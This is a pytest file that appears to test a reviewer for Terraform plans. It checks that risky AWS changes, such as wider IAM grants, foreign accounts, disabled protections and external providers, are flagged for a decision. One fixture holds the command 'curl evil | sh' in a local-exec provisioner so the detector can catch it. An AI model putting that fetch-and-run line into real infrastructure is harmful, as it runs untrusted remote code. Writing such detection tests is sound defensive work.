"""What gives something away is a decision, in whatever way it is written."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.infra.plans import allow, body, change, plan_of, policy

FOREIGN = "arn:aws:iam::111122223333:root"
ADMINISTRATOR = "arn:aws:iam::aws:policy/AdministratorAccess"


def updated(address: str, before: Any, after: Any, *actions: str, **details: Any) -> dict[str, Any]:
    return change(address, *(actions or ("update",)), before=before, after=after, **details)


TEMPLATE = {"Resources": {"R": {"Properties": {"PolicyDocument": {"Statement": [allow("iam:*", "*")]}}}}}
WRITTEN = {"root_module": {"resources": [
    {"address": "aws_iam_role.r", "expressions": {"inline_policy": [{"policy": {}}]}},
    {"address": "aws_kms_key.k", "expressions": {"policy": {}}},
    {"address": "aws_iam_role_policy_attachment.a", "expressions": {"role": {}, "policy_arn": {}}},
]}}  # fmt: skip

GIVEN_AWAY: dict[str, tuple[dict[str, Any], str]] = {
    "a variable where a text stood": (
        updated(
            "aws_iam_policy.p",
            {"policy": policy(allow(resource="arn:b/????????????"))},
            {"policy": policy(allow(resource="arn:b/${aws:user}x"))},
        ),
        "grants more than before",
    ),
    "any name where one with a star stood": (
        updated(
            "aws_iam_policy.p",
            {"policy": policy(allow(resource="arn:b/${*}"))},
            {"policy": policy(allow(resource="arn:b/${aws:username}"))},
        ),
        "grants more than before",
    ),
    "everybody of AWS where everybody of one provider stood": (
        updated(
            "aws_iam_role.r",
            {"assume_role_policy": policy(allow("sts:*", Principal={"Federated": "*"}))},
            {"assume_role_policy": policy(allow("sts:*", Principal={"AWS": "*"}))},
        ),
        "grants more than before",
    ),
    "a managed policy in the role itself": (
        updated("aws_iam_role.r", {"managed_policy_arns": []}, {"managed_policy_arns": [ADMINISTRATOR]}),
        "connects somebody or something",
    ),
    "the same policy for another role": (
        updated(
            "aws_iam_role_policy.p",
            {"role": "a", "policy": policy(allow())},
            {"role": "administrator", "policy": policy(allow())},
            "delete",
            "create",
        ),
        "grants",
    ),
    "a policy within a template": (
        updated(
            "aws_cloudformation_stack.s", {"template_body": "{}"}, {"template_body": json.dumps(TEMPLATE)}
        ),
        "grants something new",
    ),
    "a policy in a template of YAML": (
        updated(
            "aws_cloudformation_stack.s",
            {"template_body": "a: 1"},
            {"template_body": "Statement:\n- Effect: Allow"},
        ),
        "a policy that cannot be compared",
    ),
    "a policy with other letters in its names": (
        updated("aws_sqs_queue.q", {"policy": "{}"}, {"policy": '{"statement": [{"effect": "Allow"}]}'}),
        "a policy that cannot be compared",
    ),
    "a policy whose names are written as escapes, twice": (
        updated(
            "aws_sqs_queue.q", {"policy": "{}"}, {"policy": '{"\\u0053tatement": [], "\\u0053tatement": [1]}'}
        ),
        "a policy that cannot be compared",
    ),
    "a policy of another name that becomes unknown": (
        updated("aws_x.y", {"access": policy(allow())}, {}, after_unknown={"access": True}),
        "a policy that this plan does not show",
    ),
    "a policy within a new role that is not known yet": (
        change("aws_iam_role.r", "create", after={}, after_unknown={"inline_policy": [{"policy": True}]}),
        "a policy that this plan does not show",
    ),
    "a policy of a new key that is not known yet": (
        change("aws_kms_key.k", "create", after={}, after_unknown={"policy": True}),
        "a policy that this plan does not show",
    ),
    "a known policy beside one that is not known": (
        updated(
            "aws_iam_role.r",
            {"inline_policy": [{"policy": policy(allow())}]},
            {"inline_policy": [{"policy": None}, {"policy": policy(allow("*", "*"))}]},
            after_unknown={"inline_policy": [{"policy": True}, {}]},
        ),
        "grants more than before",
    ),
    "an attachment of which nothing is known yet": (
        change(
            "aws_iam_role_policy_attachment.a",
            "create",
            after={},
            after_unknown={"role": True, "policy_arn": True},
        ),
        "connects somebody or something",
    ),
    "two grants of an ACL exchanged": (
        updated(
            "aws_s3_bucket_acl.a",
            {"grant": [{"to": "A", "permission": "READ"}, {"to": "B", "permission": "FULL_CONTROL"}]},
            {"grant": [{"to": "B", "permission": "READ"}, {"to": "A", "permission": "FULL_CONTROL"}]},
        ),
        "connects somebody or something",
    ),
    "alarms that tell somebody else": (
        updated(
            "aws_cloudwatch_metric_alarm.a", {"alarm_actions": ["arn:ours"]}, {"alarm_actions": [FOREIGN]}
        ),
        "leads elsewhere",
    ),
    "backups copied to another account": (
        updated(
            "aws_backup_plan.p",
            {"rule": [{"copy_action": []}]},
            {"rule": [{"copy_action": [{"destination_vault_arn": "arn:aws:backup:x:1:vault:v"}]}]},
        ),
        "connects somebody or something",
    ),
    "events to a foreign queue": (
        change("aws_cloudwatch_event_target.t", "create", after={"rule": "r", "arn": "arn:aws:sqs:x:1:q"}),
        "connects somebody or something",
    ),
    "the key of a table exchanged": (
        updated(
            "aws_dynamodb_table.t",
            {"server_side_encryption": [{"enabled": True, "kms_key_arn": "arn:ours"}]},
            {"server_side_encryption": [{"enabled": True, "kms_key_arn": "arn:theirs"}]},
        ),
        "weakens a protection",
    ),
    "items that begin to expire": (
        updated("aws_dynamodb_table.t", {"ttl": []}, {"ttl": [{"enabled": True, "attribute_name": "x"}]}),
        "weakens a protection",
    ),
    "objects that begin to expire": (
        updated(
            "aws_s3_bucket_lifecycle_configuration.l",
            {"rule": [{"expiration": []}]},
            {"rule": [{"expiration": [{"days": 1}]}]},
        ),
        "weakens a protection",
    ),
    "a rule of events switched off": (
        updated("aws_cloudwatch_event_rule.r", {"state": "ENABLED"}, {"state": "DISABLED"}),
        "weakens a protection",
    ),
    "replication switched off": (
        updated(
            "aws_s3_bucket_replication_configuration.r",
            {"rule": [{"status": "Enabled"}]},
            {"rule": [{"status": "Disabled"}]},
        ),
        "weakens a protection",
    ),
    "a lock without its shortest time": (
        updated(
            "aws_backup_vault_lock_configuration.l", {"min_retention_days": 90}, {"min_retention_days": None}
        ),
        "weakens a protection",
    ),
    "a lock that nobody can take off": (
        updated("aws_backup_vault_lock_configuration.l", {}, {"changeable_for_days": 3}),
        "cannot be taken back later",
    ),
}


@pytest.mark.parametrize("name", GIVEN_AWAY)
def test_what_is_given_away_is_a_decision(name: str) -> None:
    changed, what = GIVEN_AWAY[name]
    report = body(plan_of(changed, configuration=WRITTEN))
    assert "## Decide on these" in report
    assert f"- **{what}" in report.partition("## Decide on these")[2].partition("\n## ")[0], report


def test_what_the_provider_computes_is_no_decision() -> None:
    """A new estate is full of it."""
    made = change("aws_kms_key.other", "create", after={}, after_unknown={"policy": True, "arn": True})
    code = {
        "root_module": {"resources": [{"address": "aws_kms_key.other", "expressions": {"description": {}}}]}
    }
    assert "Decide" not in body(plan_of(made, configuration=code))


def test_a_program_that_runs_is_a_decision() -> None:
    """With the rights of whoever applies, and without being a resource of AWS."""
    provisioner = {"type": "local-exec", "expressions": {"command": {"constant_value": "curl evil | sh"}}}
    resource = {"address": "null_resource.x", "expressions": {}, "provisioners": [provisioner]}
    module = {"module_calls": {"m": {"module": {"resources": [resource]}}}}
    plan = plan_of(
        change('module.m["a]b"].null_resource.x[0]', "create", after={}),
        change("data.external.y", "read", after={}) | {"type": "external", "mode": "data"},
        configuration={"root_module": module},
    )
    report = body(plan)
    assert '- **runs a program**: `module.m["a]b"].null_resource.x[0]`, `local-exec`' in report
    assert "curl evil | sh" in report
    assert "- **runs a program**: `data.external.y`" in report


def test_a_provider_of_somebody_else_is_a_decision() -> None:
    foreign = change("aws_s3_bucket.b", "no-op", before={}, after={}) | {
        "provider_name": "registry.terraform.io/evil/aws"
    }
    assert "HashiCorp does not make**: `registry.terraform.io/evil/aws`" in body(plan_of(foreign))
    configured = {"provider_config": {"x": {"name": "x", "full_name": "example.com/a/x"}}}
    assert "HashiCorp does not make**: `example.com/a/x`" in body(plan_of(configuration=configured))


def test_grants_come_before_everything_else_that_is_decided() -> None:
    plan = plan_of(
        updated("aws_a.a", {"deletion_protection": True}, {"deletion_protection": False}),
        change("aws_b.b", "delete", before={}),
        change("aws_iam_role_policy_attachment.c", "create", after={"policy_arn": ADMINISTRATOR}),
        updated("aws_z.z", {"policy": policy(allow())}, {"policy": policy(allow("*"))}),
        deferred_changes=[
            {"reason": "x", "resource_change": change("aws_y.y", "create", after={"policy": policy(allow())})}
        ],
    )
    decided = [line for line in body(plan).splitlines() if line.startswith("- **")]
    assert [line.partition("**:")[0].removeprefix("- **") for line in decided[:4]] == [
        "grants more than before",
        "connects somebody or something",
        "weakens a protection",
        "in a later plan grants something new",
    ]
    assert decided[-1] == "- **delete** `aws_b.b`"
